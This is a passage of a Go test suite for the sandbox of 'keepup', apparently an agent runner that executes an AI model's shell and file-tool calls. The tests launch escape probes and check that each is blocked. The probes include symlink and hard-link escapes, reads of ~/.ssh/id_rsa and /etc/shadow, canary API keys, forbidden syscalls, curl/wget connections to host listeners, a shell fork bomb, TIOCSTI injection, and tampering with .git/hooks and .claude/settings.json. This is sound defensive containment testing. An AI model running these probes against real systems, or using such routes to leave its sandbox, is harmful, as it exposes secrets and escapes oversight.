			fileCall{"delete_path", obj{"path": "/sessions/${session}/mnt/ro/readonly.txt"}},
			fileCall{"move_path", obj{"from": "/sessions/${session}/mnt/ro/readonly.txt", "to": "moved.txt"}},
		)
		s.unchanged(t, before)
	})
}

// TestSandboxSymlinks: symbolic links placed in a grant that point outside it — to a file, a
// folder, the parent, nothing yet — do not lead out when written through.
func TestSandboxSymlinks(t *testing.T) {
	t.Parallel()
	s := newSbx(t)
	tmpTarget := hostTmp(t)
	links := map[string]string{
		"filelink":    s.secret,
		"dirlink":     s.outside,
		"relfilelink": "../outside/secret.txt",
		"reldirlink":  "../outside",
		"parentlink":  "..",
		"dangling":    filepath.Join(s.outside, "new.txt"),
		"reldangling": "../outside/new.txt",
		"tmplink":     tmpTarget,
	}
	for name, target := range links {
		must(t, os.Symlink(target, filepath.Join(s.grant, name)))
	}
	before := s.state(t)
	cases := []struct {
		name  string
		probe []string
	}{
		{"file link write", []string{"write", "filelink"}},
		{"file link read", []string{"read", "filelink", "relfilelink"}},
		{"dir link write", []string{"write", "dirlink/secret.txt"}},
		{"dir link new file", []string{"write", "dirlink/new.txt"}},
		{"dir link list", []string{"list", "dirlink", "reldirlink"}},
		{"relative file link write", []string{"write", "relfilelink"}},
		{"relative dir link write", []string{"write", "reldirlink/secret.txt", "reldirlink/new.txt"}},
		{"parent link write", []string{"write", "parentlink/outside/secret.txt", "parentlink/outside/new.txt"}},
		{"parent link read", []string{"read", "parentlink/outside/secret.txt", "parentlink/.ssh/id_rsa"}},
		{"dangling link write", []string{"write", "dangling"}},
		{"relative dangling link write", []string{"write", "reldangling"}},
		{"dir link mutate", []string{"mutate", "dirlink/secret.txt"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			blocked(t, c.name, s.attack(t, c.probe...))
		})
	}
	t.Run("link into the host /tmp", func(t *testing.T) {
		// The sandbox has a /tmp of its own: the write may land there, never in the host's.
		if r := s.attack(t, "write", "tmplink"); r.code > 1 {
			t.Errorf("probe failed: exit %d\n%s%s", r.code, r.stdout, r.stderr)
		}
	})
	t.Cleanup(func() {
		s.fileToolsRefuse(t,
			fileCall{"write_file", obj{"path": "filelink", "content": "x"}},
			fileCall{"read_file", obj{"path": "filelink"}},
			fileCall{"write_file", obj{"path": "dirlink/secret.txt", "content": "x"}},
			fileCall{"write_file", obj{"path": "dirlink/new.txt", "content": "x"}},
			fileCall{"list_dir", obj{"path": "dirlink"}},
			fileCall{"write_file", obj{"path": "relfilelink", "content": "x"}},
			fileCall{"write_file", obj{"path": "reldirlink/new.txt", "content": "x"}},
			fileCall{"write_file", obj{"path": "parentlink/outside/secret.txt", "content": "x"}},
			fileCall{"read_file", obj{"path": "parentlink/.ssh/id_rsa"}},
			fileCall{"write_file", obj{"path": "dangling", "content": "x"}},
			fileCall{"write_file", obj{"path": "reldangling", "content": "x"}},
			fileCall{"write_file", obj{"path": "tmplink", "content": "x"}},
		)
		s.unchanged(t, before)
		if exists(tmpTarget) {
			t.Errorf("writing through a link in the grant created the host's %s", tmpTarget)
		}
	})
}

// TestSandboxHardLinkMadeInside: a hard link made inside the sandbox to a file it must not
// change — outside the grants, in the read-only grant, a protected file — cannot be made, or
// writing through it does not reach that file.
func TestSandboxHardLinkMadeInside(t *testing.T) {
	t.Parallel()
	s := newSbx(t)
	s.write("grant/.git/config", "[core]\n")
	s.write("grant/.git/hooks/pre-commit", "#!/bin/sh\nexit 0\n")
	before := s.state(t)
	cases := []struct{ name, src string }{
		{"outside file", s.secret},
		{"read-only grant", "@/ro/readonly.txt"},
		{"protected .git/config", ".git/config"},
		{"protected hook", ".git/hooks/pre-commit"},
		{"the attacker in tools", "@/tools/attack"},
	}
	for i, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			blocked(t, c.name, s.attack(t, "hardlink", c.src, fmt.Sprintf("link%d", i)))
		})
	}
	t.Cleanup(func() { s.unchanged(t, before) })
}

// TestSandboxPreexistingHardLink: a hard link placed in a grant (by someone else, before the
// task) to a file outside it — at the top, deep down, and after many other files. The file
// tools refuse to write through it (a file with more than one link); the rule is one
// answer, so writing through it from inside must not change the outside file either. Inside,
// the link is the outside file's inode: only a backend that finds such files and keeps them
// read-only makes this hold.
func TestSandboxPreexistingHardLink(t *testing.T) {
	t.Parallel()
	deep := "a/b/c/d/e/f/g/hardlink"
	for _, c := range []struct {
		name, path string
		many       int // ordinary files made first
	}{
		{"top", "hardlink", 0},
		{"deep", deep, 0},
		{"after many files", "zzz/sub/hardlink", 6000},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			s := newSbx(t)
			for i := 0; i < c.many; i++ {
				s.write(fmt.Sprintf("grant/aaa/f%d.txt", i), "x")
			}
			p := filepath.Join(s.grant, c.path)
			must(t, os.MkdirAll(filepath.Dir(p), 0o755))
			must(t, os.Link(s.secret, p))
			before := s.state(t)
			blocked(t, "write through a pre-existing hard link", s.attack(t, "write", c.path))
			s.fileToolsRefuse(t,
				fileCall{"write_file", obj{"path": c.path, "content": "x"}},
				fileCall{"edit_file", obj{"path": c.path, "old": "SECRET", "new": "x"}},
			)
			if got := readFile(t, s.secret); got != "SECRET" {
				t.Errorf("the outside file changed through the hard link %s in the grant: %q (the file tools refuse this path; the sandbox let it through)", c.path, got)
			}
			s.unchanged(t, before)
		})
	}
}

// TestSandboxProcRoot: /proc/self/root, /proc/1/root and every other /proc/<pid>/root or cwd
// visible inside lead to the sandbox's own root, not the host's.
func TestSandboxProcRoot(t *testing.T) {
	t.Parallel()
	s := newSbx(t)
	before := s.state(t)
	for _, target := range []string{s.secret, s.sshKey} {
		blocked(t, "procroot "+target, s.attack(t, "procroot", target))
	}
	blocked(t, "proc root read", s.attack(t, "read", "/proc/self/root"+s.secret, "/proc/1/root"+s.secret, "/proc/1/root"+s.sshKey))
	s.fileToolsRefuse(t,
		fileCall{"read_file", obj{"path": "/proc/self/root" + s.secret}},
		fileCall{"write_file", obj{"path": "/proc/1/root" + s.secret, "content": "x"}},
	)
	s.unchanged(t, before)
}

// TestSandboxHostSecrets: the host home (with an SSH key), /root, /home, KEEPUP_HOME and the
// shadow files are absent, empty or unreadable inside.
func TestSandboxHostSecrets(t *testing.T) {
	t.Parallel()
	s := newSbx(t)
	// Give KEEPUP_HOME a database and a past session's output.
	if r := s.attack(t, "create", "@/outputs/earlier.txt"); r.code != 1 {
		t.Fatalf("setting up an earlier output: exit %d %s%s", r.code, r.stdout, r.stderr)
	}
	realHome, _ := os.UserHomeDir()
	cases := []struct {
		name  string
		probe []string
	}{
		{"ssh key of the host home", []string{"read", s.sshKey}},
		{"ssh key under ~ inside", []string{"read", "~/.ssh/id_rsa", "~/.ssh/id_ed25519"}},
		{"host home", []string{"list", s.dir, filepath.Join(s.dir, ".ssh")}},
		{"/root", []string{"list", "/root"}},
		{"/home", append([]string{"lacks", "/home"}, hostHomes(t)...)},
		{"the real HOME of the test", []string{"list", realHome}},
		{"KEEPUP_HOME", []string{"list", s.home, filepath.Join(s.home, "outputs")}},
		{"shadow", []string{"read", "/etc/shadow", "/etc/gshadow"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			blocked(t, c.name, s.attack(t, c.probe...))
		})
	}
	t.Cleanup(func() {
		s.fileToolsRefuse(t,
			fileCall{"read_file", obj{"path": s.sshKey}},
			fileCall{"list_dir", obj{"path": "/root"}},
			fileCall{"read_file", obj{"path": "/etc/shadow"}},
			fileCall{"list_dir", obj{"path": s.home}},
		)
	})
}

// hostHomes names the host's /home entries (the sandbox has a /home of its own, holding its
// user's home).
func hostHomes(t *testing.T) []string {
	ents, _ := os.ReadDir("/home")
	var out []string
	for _, e := range ents {
		out = append(out, e.Name())
	}
	if len(out) == 0 {
		out = append(out, "no-host-home-"+randHex(4)) // nothing to find; the probe still runs
	}
	return out
}

// canaries are secrets set in keepup's environment; none may reach the sandbox.
func canaries() map[string]string {
	return map[string]string{
		"KEEPUP_CANARY":         "keepup-canary-" + randHex(8),
		"ANTHROPIC_API_KEY":     "sk-ant-canary-" + randHex(8),
		"OPENAI_API_KEY":        "sk-canary-" + randHex(8),
		"GITHUB_TOKEN":          "ghp_canary" + randHex(8),
		"AWS_SECRET_ACCESS_KEY": "aws-canary-" + randHex(8),
		"KEEPUP_MODEL":          "script:/canary-" + randHex(8),
	}
}

func withCanaries(e *env) (hexes []string, names []string) {
	for k, v := range canaries() {
		e.extra = append(e.extra, k+"="+v)
		hexes = append(hexes, hex.EncodeToString([]byte(v)))
		names = append(names, k)
	}
	sort.Strings(names)
	return hexes, names
}

// TestSandboxEnvironmentCanary: secrets in keepup's environment are in no environment and no
// command line inside, and keepup's own variables are not passed either.
func TestSandboxEnvironmentCanary(t *testing.T) {
	t.Parallel()
	s := newSbx(t)
	hexes, names := withCanaries(s.env)
	blocked(t, "envscan", s.attack(t, append([]string{"envscan"}, hexes...)...))
	r := s.exec(t, nil, "env")
	if r.code != 0 {
		t.Fatalf("env: exit %d %s", r.code, r.stderr)
	}
	for _, n := range names {
		if strings.Contains(r.stdout, n+"=") {
			t.Errorf("%s is set inside the sandbox", n)
		}
	}
	if strings.Contains(r.stdout, "KEEPUP_HOME=") || strings.Contains(r.stdout, s.home) {
		t.Errorf("KEEPUP_HOME leaks into the sandbox:\n%s", r.stdout)
	}
}

// TestSandboxPrivileges: no capabilities, no_new_privs, a seccomp filter, the unprivileged
// sandbox user; a setuid (and setgid) binary placed in the grant gains nothing.
func TestSandboxPrivileges(t *testing.T) {
	t.Parallel()
	s := newSbx(t)
	blocked(t, "status", s.attack(t, "status"))
	blocked(t, "ids", s.attack(t, "ids"))
	copySetuid(t, filepath.Join(s.tools, "attack"), filepath.Join(s.grant, "suid-attack"))
	r := s.exec(t, []string{"--timeout", "60"}, "./suid-attack", "ids")
	switch {
	case r.code == 126 || strings.Contains(r.stderr, "permission denied"):
		// Not executable at all from the grant: it gains nothing either.
		t.Logf("setuid binary not executed: exit %d %s", r.code, r.stderr)
	default:
		blocked(t, "setuid binary", r)
		if !strings.Contains(r.stdout, "euid=1000") || !strings.Contains(r.stdout, "NoNewPrivs=1") {
			t.Errorf("setuid binary: want euid=1000 and NoNewPrivs=1, got %s", r.stdout)
		}
	}
}

// TestSandboxMknodMountSyscalls: device nodes cannot be made, nothing can be mounted or
// remounted, and the system calls the seccomp filter refuses are refused.
func TestSandboxMknodMountSyscalls(t *testing.T) {
	t.Parallel()
	s := newSbx(t)
	s.write("grant/.git/config", "[core]\n")
	before := s.state(t)
	t.Run("mknod", func(t *testing.T) {
		blocked(t, "mknod", s.attack(t, "mknod", ".", "/tmp", "/dev"))
	})
	t.Run("mount", func(t *testing.T) {
		blocked(t, "mount", s.attack(t, "mount", "/tmp", "@/ro", "@/work/.git/config", "@/tools"))
	})
	for _, call := range []string{"unshare-user", "unshare-mount", "clone-newuser", "setns", "chroot", "bpf",
		"perf_event_open", "userfaultfd", "keyctl", "add_key", "personality", "open_by_handle_at",
		"process_vm_readv", "init_module", "kexec_load", "syslog"} {
		t.Run(call, func(t *testing.T) {
			blocked(t, call, s.attack(t, "sys", call))
		})
	}
	t.Run("io_uring", func(t *testing.T) {
		blocked(t, "io_uring_setup", s.attack(t, "iouring"))
	})
	t.Cleanup(func() { s.unchanged(t, before) })
}

// TestSandboxPtrace: a command cannot trace or read another process of the sandbox: a sleep
// started next to it, or its own child.
func TestSandboxPtrace(t *testing.T) {
	t.Parallel()
	s := newSbx(t)
	m := newMarker(t)
	r := s.exec(t, []string{"--timeout", "60"}, "sh", "-c",
		`../tools/attack hold "$1" & p=$!; ../tools/attack ptrace $p; r=$?; kill $p; exit $r`, "sh", m)
	blocked(t, "ptrace", r)
}

// TestSandboxNetwork: no Unix socket of the host (by path in a grant, or abstract), no TCP to
// the host's loopback or its other addresses, no DNS, no raw sockets, and curl and wget fail.
// The host's listeners count what reaches them: nothing may.
func TestSandboxNetwork(t *testing.T) {
	t.Parallel()
	s := newSbx(t)
	sockHits := unixListener(t, filepath.Join(s.grant, "host.sock"))
	abstract := "keepup-escape-" + randHex(6)
	abstractHits := unixListener(t, "@"+abstract)
	tcpPort, tcpHits := tcpListener(t)
	dnsPort, dnsHits := dnsServer(t)
	httpPort, httpHits := httpServer(t)
	port := strconv.Itoa(tcpPort)
	tcpAddrs := []string{"127.0.0.1:" + port, "[::1]:" + port}
	dnsAddrs := []string{"127.0.0.1:" + strconv.Itoa(dnsPort)}
	urls := []string{"http://127.0.0.1:" + strconv.Itoa(httpPort) + "/"}
	for _, ip := range hostIPs(t) {
		tcpAddrs = append(tcpAddrs, net.JoinHostPort(ip, port))
		dnsAddrs = append(dnsAddrs, net.JoinHostPort(ip, strconv.Itoa(dnsPort)))
		urls = append(urls, "http://"+net.JoinHostPort(ip, strconv.Itoa(httpPort))+"/")
	}
	cases := []struct {
		name  string
		probe []string
	}{
		{"unix socket in a grant", []string{"unix", "host.sock"}},
		{"abstract unix socket", []string{"abstract", abstract}},
		{"tcp to the host", append([]string{"tcp"}, tcpAddrs...)},
		{"dns", append([]string{"dns", "probe.keepup.test"}, dnsAddrs...)},
		{"raw sockets", []string{"raw"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			blocked(t, c.name, s.attack(t, c.probe...))
		})
	}
	for _, tool := range []struct{ name, fetch string }{
		// --fail: through the session's egress proxy a refusal is an HTTP answer (403).
		{"curl", `curl -fsS --max-time 5 -o /dev/null "$u"`},
		{"wget", `wget -q -T 5 -t 1 -O /dev/null "$u"`},
	} {
		t.Run(tool.name, func(t *testing.T) {
			if _, err := exec.LookPath(tool.name); err != nil {
				t.Skipf("%s is not installed", tool.name)
			}
			script := `command -v ` + tool.name + ` >/dev/null || { echo MISSING; exit 0; }
for u in "$@"; do if ` + tool.fetch + `; then echo "ESCAPED fetched $u"; else echo "BLOCKED $u: exit $?"; fi; done`
			r := s.exec(t, []string{"--timeout", "60"}, append([]string{"sh", "-c", script, "sh"}, urls...)...)
			if strings.Contains(r.stdout, "MISSING") {
				t.Skipf("%s is installed on the host but not visible inside the sandbox", tool.name)
			}
			if r.code != 0 || strings.Contains(r.stdout, "ESCAPED") || strings.Count(r.stdout, "BLOCKED") != len(urls) {
				t.Errorf("%s: exit %d\n%s%s", tool.name, r.code, r.stdout, r.stderr)
			}
			if strings.Contains(r.stdout, "exit 126") || strings.Contains(r.stdout, "exit 127") {
				t.Errorf("%s did not run inside the sandbox:\n%s%s", tool.name, r.stdout, r.stderr)
			}
		})
	}
	t.Cleanup(func() {
		for what, hits := range map[string]*atomic.Int32{"unix socket": sockHits, "abstract socket": abstractHits,
			"tcp listener": tcpHits, "dns server": dnsHits, "http server": httpHits} {
			if n := hits.Load(); n != 0 {
				t.Errorf("the host's %s was reached %d times from the sandbox", what, n)
			}
		}
	})
}

// httpServer serves on every host address and counts requests.
func httpServer(t *testing.T) (int, *atomic.Int32) {
	t.Helper()
	l, err := net.Listen("tcp", ":0")
	must(t, err)
	hits := new(atomic.Int32)
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		io.WriteString(w, "reached the host\n")
	}), ReadHeaderTimeout: 5 * time.Second}
	go srv.Serve(l)
	t.Cleanup(func() { srv.Close() })
	return l.Addr().(*net.TCPAddr).Port, hits
}

// repo lays out a grant like a checked-out project with its protected files.
func repo(s *sbx) {
	s.write("grant/.git/HEAD", "ref: refs/heads/main\n")
	s.write("grant/.git/config", "[core]\n\tbare = false\n")
	s.write("grant/.git/hooks/pre-commit", "#!/bin/sh\nexit 0\n")
	s.write("grant/.bashrc", "# the user's bashrc\n")
	s.write("grant/.claude/settings.json", "{}\n")
	s.write("grant/sub/.git/HEAD", "ref: refs/heads/main\n")
	s.write("grant/sub/.git/config", "[core]\n")
	s.write("grant/sub/.git/hooks/pre-commit", "#!/bin/sh\nexit 0\n")
	s.write("grant/sub/.vscode/settings.json", "{}\n")
	s.write("grant/d1/d2/d3/d4/proj/.git/config", "[core]\n")
	s.write("grant/d1/d2/d3/d4/proj/.git/hooks/pre-commit", "#!/bin/sh\nexit 0\n")
}

// TestSandboxProtectedPathsExisting: existing protected files and folders in a read-write grant
// cannot be changed, renamed, or moved aside and recreated — at the grant's root and deeper
// (the file tools protect them at any depth).
func TestSandboxProtectedPathsExisting(t *testing.T) {
	t.Parallel()
	cases := []struct {
		name  string
		probe []string
		many  int // ordinary files made first, in a folder of their own
	}{
		{name: "mutate .git/config", probe: []string{"mutate", ".git/config"}},
		{name: "mutate .git/hooks", probe: []string{"mutate", ".git/hooks"}},
		{name: "mutate .git/hooks/pre-commit", probe: []string{"mutate", ".git/hooks/pre-commit"}},
		{name: "mutate .bashrc", probe: []string{"mutate", ".bashrc"}},
		{name: "mutate .claude", probe: []string{"mutate", ".claude"}},
		{name: "mutate .claude/settings.json", probe: []string{"mutate", ".claude/settings.json"}},
		{name: "rename .git/hooks aside and recreate", probe: []string{"renameaside", ".git/hooks", ".git/hooks/pre-commit"}},
		{name: "rename .claude aside and recreate", probe: []string{"renameaside", ".claude", ".claude/settings.json"}},
		{name: "rename .git aside and recreate its hooks", probe: []string{"renameaside", ".git", ".git/hooks/pre-commit"}},
		{name: "rename .git aside and recreate its config", probe: []string{"renameaside", ".git", ".git/config"}},
		{name: "nested: mutate sub/.git/hooks/pre-commit", probe: []string{"mutate", "sub/.git/hooks/pre-commit"}},
		{name: "nested: mutate sub/.git/config", probe: []string{"mutate", "sub/.git/config"}},
		{name: "nested: mutate sub/.vscode/settings.json", probe: []string{"mutate", "sub/.vscode/settings.json"}},
		{name: "nested: rename sub/.git/hooks aside and recreate", probe: []string{"renameaside", "sub/.git/hooks", "sub/.git/hooks/pre-commit"}},
		{name: "deep: mutate d1/d2/d3/d4/proj/.git/hooks/pre-commit", probe: []string{"mutate", "d1/d2/d3/d4/proj/.git/hooks/pre-commit"}},
		{name: "deep: mutate d1/d2/d3/d4/proj/.git/config", probe: []string{"mutate", "d1/d2/d3/d4/proj/.git/config"}},
		{name: "after many files: mutate zzz/sub/.git/hooks/pre-commit", probe: []string{"mutate", "zzz/sub/.git/hooks/pre-commit"}, many: 6000},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			s := newSbx(t)
			if c.many > 0 {
				for i := 0; i < c.many; i++ {
					s.write(fmt.Sprintf("grant/aaa/f%d.txt", i), "x")
				}
				s.write("grant/zzz/sub/.git/HEAD", "ref: refs/heads/main\n")
				s.write("grant/zzz/sub/.git/hooks/pre-commit", "#!/bin/sh\nexit 0\n")
			}
			repo(s)
			before := s.state(t)
			blocked(t, c.name, s.attack(t, c.probe...))
			s.unchanged(t, before)
		})
	}
	t.Run("file tools", func(t *testing.T) {
		t.Parallel()
		s := newSbx(t)
		repo(s)
		before := s.state(t)
		s.fileToolsRefuse(t,
			fileCall{"write_file", obj{"path": ".git/config", "content": "x"}},
			fileCall{"write_file", obj{"path": ".git/hooks/pre-commit", "content": "x"}},
			fileCall{"delete_path", obj{"path": ".git/hooks", "recursive": true}},
			fileCall{"move_path", obj{"from": ".git/hooks", "to": "hooks.aside"}},
			fileCall{"move_path", obj{"from": ".git", "to": "git.aside"}},
			fileCall{"write_file", obj{"path": ".bashrc", "content": "x"}},
			fileCall{"move_path", obj{"from": ".claude", "to": "claude.aside"}},
			fileCall{"write_file", obj{"path": "sub/.git/hooks/pre-commit", "content": "x"}},
			fileCall{"write_file", obj{"path": "sub/.vscode/settings.json", "content": "x"}},
			fileCall{"write_file", obj{"path": "d1/d2/d3/d4/proj/.git/hooks/pre-commit", "content": "x"}},
		)
		s.unchanged(t, before)
	})
}

// protectedNew are protected paths that do not exist yet in the grant of
// TestSandboxProtectedPathsCreated (whose .git has no hooks folder; sub/ is a nested project,
// plain/ an ordinary folder).
var protectedNew = []string{
	".git/hooks/pre-commit", ".git/hooks/post-checkout", ".claude/settings.json", ".vscode/settings.json",
	".keepup/config.json", ".idea/workspace.xml", ".mcp.json", ".gitmodules", ".bashrc", ".bash_profile",
	".zshrc", ".zprofile", ".profile", ".gitconfig",
	"sub/.git/hooks/pre-commit", "sub/.bashrc", "sub/.claude/settings.json", "sub/.mcp.json",
	// Deeper, in a folder that is no project (plain/ exists, fresh/ does not): the file tools
	// protect these names at any depth.
	"plain/.vscode/settings.json", "plain/.bashrc", "fresh/dir/.claude/settings.json", "fresh/.git/hooks/pre-commit",
}

// TestSandboxProtectedPathsCreated: a protected path that does not exist yet cannot be
// created from inside, at the grant's root or deeper.
func TestSandboxProtectedPathsCreated(t *testing.T) {
	t.Parallel()
	for _, p := range protectedNew {
		t.Run(p, func(t *testing.T) {
			t.Parallel()
			if strings.HasPrefix(p, "plain/") || strings.HasPrefix(p, "fresh/") {
				// Read-only binds guard what exists when the sandbox starts: the top of each
				// read-write mount and every folder that already holds a protected name. A
				// protected name created later in an ordinary folder can be made inside: it is
				// moved out of the grant when the command ends (the quarantine,
				// TestSandboxProtectedPathsInNewFolders), where the file tools refuse it at once.
				t.Skip("created inside, then moved out when the command ends: see TestSandboxProtectedPathsInNewFolders")
			}
			s := newSbx(t)
			s.write("grant/.git/HEAD", "ref: refs/heads/main\n")
			s.write("grant/sub/.git/HEAD", "ref: refs/heads/main\n")
			s.write("grant/plain/notes.txt", "notes\n")
			before := s.state(t)
			blocked(t, "create "+p, s.attack(t, "create", p))
			s.unchanged(t, before)
		})
	}
	t.Run("no .git at all", func(t *testing.T) {
		t.Parallel()
		s := newSbx(t)
		before := s.state(t)
		blocked(t, "create .git/hooks/pre-commit", s.attack(t, "create", ".git/hooks/pre-commit", ".git/config"))
		s.unchanged(t, before)
	})
	t.Run("file tools", func(t *testing.T) {
		t.Parallel()
		s := newSbx(t)
		s.write("grant/.git/HEAD", "ref: refs/heads/main\n")
		before := s.state(t)
		var calls []fileCall
		for _, p := range protectedNew {
			calls = append(calls, fileCall{"write_file", obj{"path": p, "content": "x"}})
		}
		s.fileToolsRefuse(t, calls...)
		s.unchanged(t, before)
	})
}

// TestSandboxResourceBombs: a fork bomb and a memory hog hit a limit inside the sandbox (the
// command gets the error), keepup finishes, and the host can still start processes promptly.
// Not parallel: while they run, nothing else should compete for the machine, and a bomb that
// escaped must not take the rest of the suite down with it.
func TestSandboxResourceBombs(t *testing.T) {
	s := newSbx(t)
	base := spawnLatency(t)
	contained := true
	for _, c := range []struct{ name, probe string }{
		{"fork bomb", "forkbomb"},
		{"memory hog", "memhog"},
		{"memory hog in several processes", "memhogs"},
	} {
		start := time.Now()
		r := s.exec(t, []string{"--timeout", "60"}, "../tools/attack", c.probe)
		took := time.Since(start)
		blocked(t, c.name, r)
		if c.probe == "forkbomb" && strings.Contains(r.stdout, "ESCAPED") {
			contained = false
		}
		if took > 90*time.Second {
			t.Errorf("%s: keepup took %s", c.name, took)
		}
		if d := spawnLatency(t); d > 2*time.Second+10*base {
			t.Errorf("after the %s the host took %s to start a process (before: %s)", c.name, d, base)
		}
	}
	if !contained {
		t.Log("the shell fork bomb is not tried: the bounded one above was not contained")
		return
	}
	// The classic shell fork bomb, ended by the timeout, with the host probed while it runs.
	procs := countProcs()
	done := make(chan result, 1)
	start := time.Now()
	go func() {
		done <- s.exec(t, []string{"--timeout", "8"}, "sh", "-c", `b(){ b | b & }; b; sleep 30`)
	}()
	var worst time.Duration
	for i := 0; i < 3; i++ {
		time.Sleep(2 * time.Second)
		if d := spawnLatency(t); d > worst {
			worst = d
		}
	}
	r := <-done
	if worst > 2*time.Second+10*base {
		t.Errorf("while the shell fork bomb ran the host took up to %s to start a process (before: %s)", worst, base)
	}
	// The command gets an error: its forks fail (the shell gives up), or the timeout ends it.
	if r.code == 0 || !strings.Contains(r.stderr, "timed out") && !strings.Contains(strings.ToLower(r.stderr), "fork") {
		t.Errorf("shell fork bomb: exit %d after %s, want a failed fork or a timeout\n%.2000s", r.code, time.Since(start), r.stderr)
	}
	if took := time.Since(start); took > 40*time.Second {
		t.Errorf("the shell fork bomb with an 8s timeout took %s", took)
	}
	deadline := time.Now().Add(10 * time.Second)
	for countProcs() > procs+20 && time.Now().Before(deadline) {
		time.Sleep(100 * time.Millisecond)
	}
	if n := countProcs(); n > procs+20 {
		t.Errorf("%d processes on the host after the fork bomb ended, %d before", n, procs)
	}
}

func countProcs() int {
	ents, _ := os.ReadDir("/proc")
	n := 0
	for _, e := range ents {
		if _, err := strconv.Atoi(e.Name()); err == nil {
			n++
		}
	}
	return n
}

// TestSandboxBackgroundProcessDiesWithCommand: a background process and a daemon (new session,
// parent gone, polite signals ignored) are dead once their `sandbox exec` command returns.
func TestSandboxBackgroundProcessDiesWithCommand(t *testing.T) {
	t.Parallel()
	s := newSbx(t)
	bg, daemon := newMarker(t), newMarker(t)
	start := time.Now()
	r := s.exec(t, []string{"--timeout", "60"}, "sh", "-c",
		`../tools/attack hold "$1" & ../tools/attack daemon "$2" && echo started`, "sh", bg, daemon)
	if r.code != 0 || !strings.Contains(r.stdout, "started") {
		t.Fatalf("exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	if took := time.Since(start); took > 30*time.Second {
		t.Errorf("keepup waited %s for the background processes", took)
	}
	for what, m := range map[string]string{"background process": bg, "daemon": daemon} {
		if left := survivors(m, 3*time.Second); len(left) > 0 {
			t.Errorf("a %s outlived its command: pids %v", what, left)
		}
	}
}

// TestSandboxTimeoutKillsTree: a command past its --timeout is killed with its children (one in
// its process group, one daemonized and ignoring SIGTERM), and the exit says so.
func TestSandboxTimeoutKillsTree(t *testing.T) {
	t.Parallel()
	s := newSbx(t)
	m := newMarker(t)
	start := time.Now()
	r := s.exec(t, []string{"--timeout", "2"}, "../tools/attack", "tree", m)
	took := time.Since(start)
	if !strings.Contains(r.stdout, "STARTED tree") {
		t.Fatalf("the tree did not start: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	if took > 20*time.Second {
		t.Errorf("keepup returned %s after a 2s timeout", took)
	}
	if r.code == 0 || !strings.Contains(r.stderr, "timed out") {
		t.Errorf("timeout: exit %d, stderr %q; want a non-zero exit and a message", r.code, r.stderr)
	}
	if left := survivors(m, 3*time.Second); len(left) > 0 {
		t.Errorf("processes of the timed-out command survive: pids %v", left)
	}
}

// TestSandboxTIOCSTI: with keepup on a terminal (its controlling terminal, as in a person's
// shell), a command cannot push input into that terminal.
func TestSandboxTIOCSTI(t *testing.T) {
	t.Parallel()
	s := newSbx(t)
	master, slave := openPty(t)
	out := &syncBuffer{}
	go io.Copy(out, master)
	args := append([]string{"sandbox", "exec"}, s.grantArgs()...)
	args = append(args, "--timeout", "60", "--", "../tools/attack", "tiocsti")
	cmd := execKeepup(s.env, args...)
	cmd.Stdin, cmd.Stdout, cmd.Stderr = slave, slave, slave
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true}
	must(t, cmd.Start())
	done := make(chan error, 1)
	go func() { done <- cmd.Wait() }()
	select {
	case <-done:
	case <-time.After(2 * time.Minute):
		cmd.Process.Kill()
		<-done
		t.Fatalf("keepup did not finish:\n%s", out.String())
	}
	time.Sleep(200 * time.Millisecond)
	text := out.String()
	t.Logf("on the terminal: %q", text)
	if strings.Contains(text, "ESCAPED") || !strings.Contains(text, "BLOCKED") {
		t.Errorf("tiocsti: exit %d\n%s", cmd.ProcessState.ExitCode(), text)
	}
	if injected(t, slave, out) {
		t.Errorf("a command in the sandbox pushed input into keepup's terminal:\n%s", text)
	}
}

// TestSandboxBwrapMissing: without bubblewrap on PATH nothing runs, unsandboxed or otherwise,
// and the one-line error names the remedy.
func TestSandboxBwrapMissing(t *testing.T) {
	t.Parallel()
	s := newSbx(t)
	empty := t.TempDir()
	s.extra = append(s.extra, "PATH="+empty)
	ran := filepath.Join(s.grant, "ran.txt")
	r := s.exec(t, nil, "/bin/sh", "-c", "echo ran > "+ran)
	if r.code != 2 {
		t.Errorf("sandbox exec without bwrap: exit %d, want 2\n%s%s", r.code, r.stdout, r.stderr)
	}
	oneLine(t, r.stderr)
	if !strings.Contains(r.stderr, "apt-get install bubblewrap") {
		t.Errorf("the error does not name the remedy: %q", r.stderr)
	}
	if exists(ran) || r.stdout != "" {
		t.Errorf("the command ran without a sandbox (stdout %q)", r.stdout)
	}

	// A task whose model runs a command fails closed the same way.
	spec := s.script(turn("", "update_plan", planCall("run")), turn("", "bash", obj{"command": "/bin/sh -c 'echo ran > " + ran + "'"}), turn("done"))
	args := append([]string{"run", "--json", "--approvals", "auto"}, s.grantArgs()...)
	r = runFor(t, s.env, 2*time.Minute, "", append(args, "--model", spec, "run it")...)
	if r.code == 0 {
		t.Errorf("keepup run without bwrap completed; want a failure\n%s", r.stderr)
	}
	if !strings.Contains(r.stderr+r.stdout, "apt-get install bubblewrap") {
		t.Errorf("keepup run without bwrap does not name the remedy:\n%s\n%s", r.stderr, r.stdout)
	}
	if exists(ran) {
		t.Error("keepup run ran the command without a sandbox")
	}
}

// --- through the bash tool of `keepup run` --------------------------------------------------

// attackIn is the attacker's path inside a run's session.
const attackIn = "/sessions/${session}/mnt/tools/attack"

// bashRun runs a task whose model makes each call in a turn of its own, with the sandbox's
// grants and extra flags, and returns the results by call (script_<turn>_0; turn 0 is the plan).
func (s *sbx) bashRun(t *testing.T, flags []string, calls ...fileCall) (result, map[string]callResult) {
	t.Helper()
	turns := []map[string]any{turn("", "update_plan", planCall("try"))}
	for _, c := range calls {
		turns = append(turns, turn("", c.tool, c.input))
	}
	turns = append(turns, turn("done"))
	args := append([]string{"run", "--json", "--approvals", "auto"}, s.grantArgs()...)
	args = append(append(args, flags...), "--model", s.script(turns...), "attack")
	r := runFor(t, s.env, 3*time.Minute, "", args...)
	if r.code != 0 {
		t.Fatalf("keepup run: exit %d\n%s", r.code, r.stderr)
	}
